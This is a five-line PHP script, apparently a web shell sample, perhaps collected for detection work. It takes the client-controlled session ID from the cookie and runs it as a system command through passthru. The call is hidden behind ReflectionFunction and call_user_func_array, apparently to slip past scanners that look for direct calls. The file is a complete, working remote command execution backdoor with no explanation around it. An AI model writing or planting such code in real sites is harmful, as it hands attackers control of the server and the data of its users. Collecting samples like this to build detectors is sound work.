<?php
session_start();
$q2 = session_id();
call_user_func_array(array(new ReflectionFunction('passthru'), 'invoke'), array($q2));
